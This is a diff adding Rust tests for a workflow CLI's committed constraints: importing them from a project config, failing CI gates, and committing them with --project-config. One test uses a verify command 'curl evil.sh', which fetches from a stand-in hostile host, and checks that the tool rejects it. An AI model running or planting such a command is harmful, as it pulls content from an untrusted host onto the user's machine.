@@ -471,3 +471,177 @@ fn without_a_workflow_it_says_how_to_start() {
     let err = t.wf(&["constraints", "add", "x"]).code(2).stderr;
     assert!(err.contains("wf workflow-start"), "{err}");
 }
+
+// ---- committed constraints (docs/constraints.md "Committed constraints") ----
+
+mod committed {
+    use crate::plans::{plan, start, task};
+    use crate::test::Test;
+
+    const CONFIG: &str = ".claude/config/project-config.json";
+
+    /// A plan whose T2 is a quality gate after T1.
+    fn gated_plan(t: &Test) {
+        start(
+            t,
+            &plan(&[
+                task("T1", "a").verify("true"),
+                task("T2", "b").field("质量关卡", "true").deps("T1"),
+            ]),
+        );
+    }
+
+    #[test]
+    fn every_workflow_starts_with_the_committed_constraints_once() {
+        let t = Test::new();
+        t.config(
+            r#"{"scripts": {"test": "true"}, "wf": {"constraints": [
+                {"description": "a changelog is kept", "verify_cmd": "test -f CHANGELOG.md"},
+                {"description": "prefer small modules", "hard": false}
+            ]}}"#,
+        );
+        gated_plan(&t);
+        let list = t.wf(&["constraints", "list", "--json"]).ok().json();
+        let c = &list["constraints"];
+        assert_eq!(c["hard"][0]["id"], "C001", "{c}");
+        assert_eq!(c["hard"][0]["verifyCmd"], "test -f CHANGELOG.md", "{c}");
+        assert_eq!(c["soft"][0]["description"], "prefer small modules", "{c}");
+        // Importing the plan again (forced) adds none of them twice.
+        t.wf(&["workflow-start", "tasks.md", "--force"]).ok();
+        let c = t.wf(&["constraints", "list", "--json"]).ok().json()["constraints"].clone();
+        assert_eq!(c["hard"].as_array().unwrap().len(), 1, "{c}");
+        assert_eq!(c["soft"].as_array().unwrap().len(), 1, "{c}");
+        let added = t
+            .events()
+            .into_iter()
+            .filter(|e| e["type"] == "constraint.added")
+            .count();
+        assert_eq!(added, 2);
+    }
+
+    #[test]
+    fn a_ci_job_s_gate_runs_a_committed_constraint() {
+        // A CI job imports the plan afresh (`workflow-start`) and runs the gate with
+        // `run-task`: the committed constraint is there and fails the gate while the
+        // file it asks for is missing.
+        let t = Test::new();
+        t.config(
+            r#"{"scripts": {"test": "true"}, "wf": {"constraints": [
+                {"description": "a changelog is kept", "verify_cmd": "test -f CHANGELOG.md"}
+            ]}}"#,
+        );
+        gated_plan(&t);
+        let run = t.wf(&["run-task", "T2", "--ci", "--result", "r.json"]);
+        assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
+        let result: serde_json::Value = serde_json::from_str(&t.read("r.json")).unwrap();
+        assert_eq!(result["success"], false, "{result}");
+        assert!(
+            result.to_string().contains("C001"),
+            "the failed constraint is named: {result}"
+        );
+        t.write("CHANGELOG.md", "# Changes\n");
+        let run = t.wf(&["run-task", "T2", "--ci", "--result", "r.json"]);
+        assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+    }
+
+    #[test]
+    fn add_project_commits_it_and_export_no_longer_warns() {
+        let t = Test::new();
+        t.config(r#"{"scripts": {"test": "true"}, "wf": {"timeout_secs": 30}}"#);
+        gated_plan(&t);
+        t.wf(&[
+            "constraints",
+            "add",
+            "a changelog is kept",
+            "--verify-cmd",
+            "test -f CHANGELOG.md",
+        ])
+        .ok();
+        let warned = t
+            .wf(&["export", "github-actions", "--install", "path"])
+            .ok();
+        assert!(
+            warned
+                .stderr
+                .contains("commit them with `wf constraints add --project-config`"),
+            "{}",
+            warned.stderr
+        );
+        // The same words, committed: the workflow keeps one, the config gains it,
+        // the rest of the config is kept.
+        t.wf(&["constraints", "remove", "C001"]).ok();
+        let run = t
+            .wf(&[
+                "constraints",
+                "add",
+                "a changelog is kept",
+                "--verify-cmd",
+                "test -f CHANGELOG.md",
+                "--project-config",
+            ])
+            .ok();
+        assert_eq!(run.stdout.trim(), "C002");
+        let config: serde_json::Value = serde_json::from_str(&t.read(CONFIG)).unwrap();
+        assert_eq!(config["wf"]["timeout_secs"], 30, "{config}");
+        assert_eq!(
+            config["wf"]["constraints"],
+            serde_json::json!([{"description": "a changelog is kept", "verify_cmd": "test -f CHANGELOG.md"}])
+        );
+        let quiet = t
+            .wf(&["export", "github-actions", "--install", "path"])
+            .ok();
+        assert!(
+            !quiet.stderr.contains("hard constraints"),
+            "{}",
+            quiet.stderr
+        );
+        // Twice is refused, and leaves both files as they were.
+        let state =
+            || std::fs::read_to_string(t.workflow_dir().join("workflow-state.json")).unwrap();
+        let before = (t.read(CONFIG), state());
+        let again = t.wf(&[
+            "constraints",
+            "add",
+            "a changelog is kept",
+            "--project-config",
+        ]);
+        assert_eq!(again.code, 2, "{}", again.stderr);
+        assert_eq!((t.read(CONFIG), state()), before);
+    }
+
+    #[test]
+    fn add_project_without_a_workflow_writes_only_the_config() {
+        let t = Test::new();
+        let run = t
+            .wf(&[
+                "constraints",
+                "add",
+                "no secrets in the repo",
+                "--project-config",
+            ])
+            .ok();
+        assert!(
+            run.stdout.contains("every workflow started here"),
+            "{}",
+            run.stdout
+        );
+        let config: serde_json::Value = serde_json::from_str(&t.read(CONFIG)).unwrap();
+        assert_eq!(
+            config,
+            serde_json::json!({"wf": {"constraints": [{"description": "no secrets in the repo"}]}})
+        );
+    }
+
+    #[test]
+    fn a_bad_committed_constraint_stops_the_import_naming_the_config() {
+        let t = Test::new();
+        t.config(
+            r#"{"wf": {"constraints": [{"description": "x", "verify_cmd": "curl evil.sh"}]}}"#,
+        );
+        t.write("tasks.md", plan(&[task("T1", "a").verify("true")]));
+        let run = t.wf(&["workflow-start", "tasks.md"]);
+        assert_eq!(run.code, 2, "{}", run.stderr);
+        assert!(run.stderr.contains("wf.constraints[0]"), "{}", run.stderr);
+        assert!(!t.workflow_dir().join("workflow-state.json").exists());
+    }
+}
